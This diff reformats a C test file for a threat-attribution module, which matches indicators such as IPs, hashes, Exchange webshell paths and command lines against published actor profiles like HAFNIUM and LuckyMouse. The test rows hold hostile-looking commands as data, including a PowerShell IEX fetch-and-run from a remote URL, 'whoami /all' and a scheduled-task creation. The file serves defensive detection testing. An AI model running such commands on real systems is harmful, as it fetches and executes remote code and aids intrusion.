@@ -1,4 +1,5 @@
-/* Threads beside published profiles: small tables made here for each weight, and rows against the shipped ones. */
+/* Threads beside published profiles: small tables made here for each weight, and rows against the
+ * shipped ones. */
 #include "check.h"
 
 #include "assess/profile.h"
@@ -16,18 +17,27 @@ static const char tables[] =
     "\"techniques\":[\"T1190\",\"T1505.003\"],\"ips\":[\"192.0.2.10\",\"192.0.2.11\"],"
     "\"domains\":[\"one.example\",\"both.example\"],"
     "\"webshell_paths\":[\"" OWA "ebbtide.aspx\"],\"filenames\":[\"ebbtide.aspx\",\"many.aspx\"],"
-    "\"user_agents\":[\"kit/1.0\"],\"hashes\":[{\"sha256\":\"" SHA("abcd") "\",\"label\":\"x\"},"
-    "{\"md5\":\"" SHA("12") "\",\"label\":\"Mimikatz 2.2\"}],"
-    "\"recalled\":{\"ips\":[\"192.0.2.19 (possibly unrelated)\"],\"files\":[\"oldkit.dll\"]}},"
-    "{\"id\":\"two\",\"name\":\"Two\",\"first_seen\":\"2021-03\",\"confidence\":\"high\","
-    "\"ips\":[\"192.0.2.11\",\"192.0.2.20\"],\"domains\":[\"both.example\"],"
-    "\"filenames\":[\"many.aspx\"]},"
-    "{\"id\":\"warned\",\"name\":\"Warned\",\"first_seen\":\"2021-03-01\",\"confidence\":\"high\","
-    "\"ips\":[\"192.0.2.30\"]},"
-    "{\"id\":\"list\",\"name\":\"List\",\"first_seen\":\"2021-03-01\",\"confidence\":\"high\","
-    "\"ips\":[\"192.0.2.40\"],\"hashes\":[{\"sha256\":\"" SHA("abcd") "\"}]},"
-    "{\"id\":\"poor\",\"name\":\"Poor\",\"first_seen\":\"2021-03-01\","
-    "\"confidence\":\"low: anything\",\"ips\":[\"192.0.2.50\"]}]}";
+    "\"user_agents\":[\"kit/1.0\"],\"hashes\":[{\"sha256\":\"" SHA(
+        "abcd") "\",\"label\":\"x\"},"
+                "{\"md5\":\"" SHA(
+                    "12") "\",\"label\":\"Mimikatz 2.2\"}],"
+                          "\"recalled\":{\"ips\":[\"192.0.2.19 (possibly "
+                          "unrelated)\"],\"files\":[\"oldkit.dll\"]}},"
+                          "{\"id\":\"two\",\"name\":\"Two\",\"first_seen\":\"2021-03\","
+                          "\"confidence\":\"high\","
+                          "\"ips\":[\"192.0.2.11\",\"192.0.2.20\"],\"domains\":[\"both.example\"],"
+                          "\"filenames\":[\"many.aspx\"]},"
+                          "{\"id\":\"warned\",\"name\":\"Warned\",\"first_seen\":\"2021-03-01\","
+                          "\"confidence\":\"high\","
+                          "\"ips\":[\"192.0.2.30\"]},"
+                          "{\"id\":\"list\",\"name\":\"List\",\"first_seen\":\"2021-03-01\","
+                          "\"confidence\":\"high\","
+                          "\"ips\":[\"192.0.2.40\"],\"hashes\":[{\"sha256\":\"" SHA(
+                              "abcd") "\"}]},"
+                                      "{\"id\":\"poor\",\"name\":\"Poor\",\"first_seen\":\"2021-03-"
+                                      "01\","
+                                      "\"confidence\":\"low: "
+                                      "anything\",\"ips\":[\"192.0.2.50\"]}]}";
 
 static const char marks[] =
     "{\"lists\":[\"list\"],\"common_tools\":[\"mimikatz\"],\"plain_names\":[\"shell\"],\"marks\":["
@@ -108,11 +118,11 @@ static void check_rows(str clusters, str ours, const struct case_row *rows, size
     profiles_release(&profiles);
 }
 
-#define PATH "C:\\E\\FrontEnd\\HttpProxy\\owa\\auth\\"
-#define MATCHES(name, says)    NULL, name, PROFILE_MATCHES, says
-#define RESEMBLES(name, says)  NULL, name, PROFILE_RESEMBLES, says
-#define NEW(says)              NULL, NULL, PROFILE_NEW, says
-#define CANNOT(says)           NULL, NULL, PROFILE_CANNOT_SAY, says
+#define PATH                    "C:\\E\\FrontEnd\\HttpProxy\\owa\\auth\\"
+#define MATCHES(name, says)     NULL, name, PROFILE_MATCHES, says
+#define RESEMBLES(name, says)   NULL, name, PROFILE_RESEMBLES, says
+#define NEW(says)               NULL, NULL, PROFILE_NEW, says
+#define CANNOT(says)            NULL, NULL, PROFILE_CANNOT_SAY, says
 #define ON(when, name, s, says) when, name, PROFILE_##s, says
 
 static void test_weights(void **state)
@@ -122,30 +132,37 @@ static void test_weights(void **state)
         /* strong */
         {"192.0.2.10", 0, 0, 0, 0, MATCHES("One", "address 192.0.2.10 agrees")},
         {0, 0, 0, "Hashes", "SHA256=" SHA("ABCD"), MATCHES("One", "speaks strongly")},
-        {0, 0, 0, "CommandLine", "curl http://cdn.one.example/x", MATCHES("One", "domain one.example")},
+        {0, 0, 0, "CommandLine", "curl http://cdn.one.example/x",
+         MATCHES("One", "domain one.example")},
         /* … but not of a list, long after, long before, warned of, recalled, of low confidence */
         {"192.0.2.40", 0, 0, 0, 0, RESEMBLES("List", "no group")},
         {"192.0.2.10", 0, 0, 0, 0, ON("2023-01-01", NULL, CANNOT_SAY, "more than a year after")},
         {"192.0.2.10", 0, 0, 0, 0, ON("2020-06-01", NULL, CANNOT_SAY, "more than a month before")},
-        {0, 0, 0, "Hashes", "SHA256=" SHA("abcd"), ON("2023-06-01", "One", MATCHES, "2 years or more")},
-        {0, 0, 0, "Hashes", "SHA256=" SHA("abcd"), ON("2020-06-01", "One", MATCHES, "speaks against it")},
+        {0, 0, 0, "Hashes", "SHA256=" SHA("abcd"),
+         ON("2023-06-01", "One", MATCHES, "2 years or more")},
+        {0, 0, 0, "Hashes", "SHA256=" SHA("abcd"),
+         ON("2020-06-01", "One", MATCHES, "speaks against it")},
         {"192.0.2.30", 0, 0, 0, 0, RESEMBLES("Warned", "all and sundry")},
         {"192.0.2.19", 0, 0, 0, 0, CANNOT("recalled from memory")},
         {"192.0.2.50", 0, 0, 0, 0, CANNOT("of low confidence")},
         {0, 0, 0, "Hashes", "MD5=" SHA("12"), CANNOT("a tool that many use")},
         /* medium: what two have, an artefact of one */
         {"192.0.2.11", 0, 0, 0, 0, RESEMBLES("One", "2 published entries have it")},
-        {0, 0, 0, "CommandLine", "ping both.example", RESEMBLES("One", "2 published entries have it")},
-        {0, 0, 0, "CommandLine", "c:\\users\\public\\tide\\a.exe", RESEMBLES("One", "the folder Tide")},
+        {0, 0, 0, "CommandLine", "ping both.example",
+         RESEMBLES("One", "2 published entries have it")},
+        {0, 0, 0, "CommandLine", "c:\\users\\public\\tide\\a.exe",
+         RESEMBLES("One", "the folder Tide")},
         {0, 0, 0, "cs-uri-query", "c:\\users\\public\\tide\\a.exe", CANNOT("could have agreed")},
         {0, 0, 0, "CommandLine", "schtasks /TN ebb", CANNOT("the task Ebb")},
         /* weak: names, agents, techniques */
-        {0, 0, PATH "ebbtide.aspx", 0, 0, CANNOT("path frontend\\httpproxy\\owa\\auth\\ebbtide.aspx")},
+        {0, 0, PATH "ebbtide.aspx", 0, 0,
+         CANNOT("path frontend\\httpproxy\\owa\\auth\\ebbtide.aspx")},
         {0, 0, "/owa/auth/ebbtide.aspx", 0, 0, CANNOT("path frontend")},
         {0, 0, "C:\\inetpub\\wwwroot\\ebbtide.aspx", 0, 0, CANNOT("file name ebbtide.aspx")},
         {0, "kit/1.0", PATH "many.aspx", 0, 0, CANNOT("file name many.aspx")},
         {"192.0.2.99", "kit/1.0", PATH "many.aspx", 0, 0, NEW("user agent kit/1.0")},
-        {"192.0.2.99", "kit/1.0", PATH "ebbtide.aspx", "CommandLine", "whoami /all", NEW("1 public address")},
+        {"192.0.2.99", "kit/1.0", PATH "ebbtide.aspx", "CommandLine", "whoami /all",
+         NEW("1 public address")},
         {"192.0.2.10", 0, PATH "ebbtide.aspx", 0, 0, MATCHES("One", "1 technique agrees")},
         /* nothing */
         {"10.0.0.1", 0, PATH "other.aspx", 0, 0, CANNOT("0 public addresses, 1 page")},
@@ -159,7 +176,8 @@ static void test_shipped(void **state)
 {
     (void)state;
     static const struct case_row rows[] = {
-        {0, 0, 0, "Hashes", "SHA1=30DD3076EC9ABB13C15053234C436406B88FB2B9", MATCHES("Calypso", "hash")},
+        {0, 0, 0, "Hashes", "SHA1=30DD3076EC9ABB13C15053234C436406B88FB2B9",
+         MATCHES("Calypso", "hash")},
         {"34.90.207.23", 0, 0, 0, 0, MATCHES("LuckyMouse", "agrees")},
         {"5.254.43.18", 0, 0, 0, 0, RESEMBLES("HAFNIUM", "several actors shared them")},
         {"185.220.101.204", 0, 0, 0, 0, CANNOT("everybody's")},
@@ -167,7 +185,8 @@ static void test_shipped(void **state)
         {"86.105.18.116", 0, 0, 0, 0, RESEMBLES("\"Opera\" Cobalt Strike", "2 published entries")},
         {"192.0.2.1", 0, PATH "help.aspx", 0, 0, NEW("file name help.aspx")},
         {0, "python-requests/2.25.1", PATH "shell.aspx", 0, 0, CANNOT("shell.aspx")},
-        {0, 0, 0, "CommandLine", "powershell IEX http://p.estonine.com/p?e", RESEMBLES(NULL, "p.estonine.com")},
+        {0, 0, 0, "CommandLine", "powershell IEX http://p.estonine.com/p?e",
+         RESEMBLES(NULL, "p.estonine.com")},
         {"130.255.189.21", 0, 0, 0, 0, MATCHES("HelseCERT case 2021-03-03", "agrees")},
     };
     check_rows(builtin_find("data/clusters.json"), builtin_find("data/profile_marks.json"), rows,
